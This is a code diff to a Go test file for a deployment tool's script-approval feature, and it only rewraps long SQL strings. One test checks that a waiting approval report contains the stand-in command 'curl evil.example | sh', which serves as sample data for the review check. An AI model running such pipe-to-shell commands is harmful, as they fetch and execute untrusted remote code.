@@ -82,7 +82,8 @@ func TestAScriptThatNobodyHasSeenWaits(t *testing.T) {
 	w.runSmoke("oscar")
 	w.want(w.runJobs(), "[]")
 	w.want(w.scripts("waiting"), "smoke")
-	report = w.one("select report->'changes'->0->'fields'->0->>'lines' from approvals where kind = 'scripts' and status = 'waiting'")
+	report = w.one("select report->'changes'->0->'fields'->0->>'lines' from approvals where kind = 'scripts' and status " +
+		"= 'waiting'")
 	if !strings.Contains(report, "curl evil.example | sh") || !strings.Contains(report, "true") {
 		t.Errorf("the difference is %s", report)
 	}
@@ -123,7 +124,8 @@ func TestScriptsAreShownWithThePlan(t *testing.T) {
 	w.want(w.list("select distinct kind from approvals"), "[plan]")
 	w.want(w.one(`select p.component || ': ' || (a.subject->0->>'action') from approvals a join plans p on p.id = a.plan_id where a.subject is not null`), "web: smoke")
 	w.want(w.list("select action || ' ' || answer || ' ' || actor from script_answers"), "[smoke approve alice]")
-	if w.one("select (a.content_digest <> p.content_digest)::text from approvals a join plans p on p.id = a.plan_id where a.subject is not null") != "true" {
+	if w.one("select (a.content_digest <> p.content_digest)::text from approvals a join plans p on p.id = a.plan_id "+
+		"where a.subject is not null") != "true" {
 		t.Error("the answer does not bind to the scripts")
 	}
 
